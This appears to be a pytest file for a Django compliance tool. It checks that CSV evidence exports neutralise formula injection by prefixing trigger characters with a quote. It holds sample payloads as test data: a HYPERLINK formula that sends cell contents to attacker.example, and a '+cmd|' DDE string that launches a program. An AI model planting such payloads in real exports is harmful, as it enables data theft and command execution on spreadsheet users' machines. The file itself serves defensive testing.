"""CSV formula injection (issue 17, item 5): no cell of a CSV in an evidence bundle starts with a
character a spreadsheet treats as a formula (``= + - @ TAB CR``); such text is prefixed with a
single quote, the same way every time."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command

from compliance.evidence.bundle import FORMULA_TRIGGERS, csv_cell, dump_csv
from tests.factories import AssetFactory, ClassificationFactory, ColumnFactory, SourceFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'


def _read_csv(bundle, name: str) -> list[list[str]]:
    with zipfile.ZipFile(bundle) as archive:
        text = archive.read(f"evidence/{name}").decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def test_inventory_and_art30_csv_neutralise_formula_cells(ledger_key, tmp_path):
    asset = AssetFactory(
        source=SourceFactory(name="@SUM(1+1)"),
        qualified_name="crm.t",
        legal_basis="contract",
        processing_purposes=["+cmd|' /C calc'!A0", "billing"],
    )
    column = ColumnFactory(asset=asset, name=HYPERLINK)
    ClassificationFactory(column=column, state="confirmed")
    ClassificationFactory(column=ColumnFactory(asset=asset, name="\tTAB-led"), state="confirmed")
    out = tmp_path / "evidence.zip"
    call_command("evidence_export", "--out", str(out), "--from", "2000-01-01")

    inventory = _read_csv(out, "inventory.csv")
    header = inventory[0]
    columns = {row[header.index("column")] for row in inventory[1:]}
    assert "'" + HYPERLINK in columns
    assert "'\tTAB-led" in columns
    assert {row[header.index("asset")] for row in inventory[1:]} == {"'@SUM(1+1):crm.t"}

    art30 = _read_csv(out, "art30.csv")
    purposes = [row[art30[0].index("b_purposes")] for row in art30[1:]]
    assert purposes == ["'+cmd|' /C calc'!A0; billing"]

    for rows in (inventory, art30):
        for row in rows:
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_trigger_is_prefixed_with_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", None, 3, 0.5, "a=b", "'already"])
def test_other_cells_are_written_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_a_negative_number_and_a_list_starting_with_a_trigger_are_neutralised():
    assert csv_cell(-3) == "'-3"
    assert csv_cell(["=a", "b"]) == "'=a; b"


def test_the_bytes_are_deterministic():
    rows = [{"a": HYPERLINK, "b": ["-x", "y"]}, {"a": None}]
    assert dump_csv(rows, ["a", "b"]) == dump_csv(rows, ["a", "b"])
    assert dump_csv(rows, ["a", "b"]) == (
        "a,b\r\n" + '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""click"")",\'-x; y\r\n' + ",\r\n"
    ).encode("utf-8")
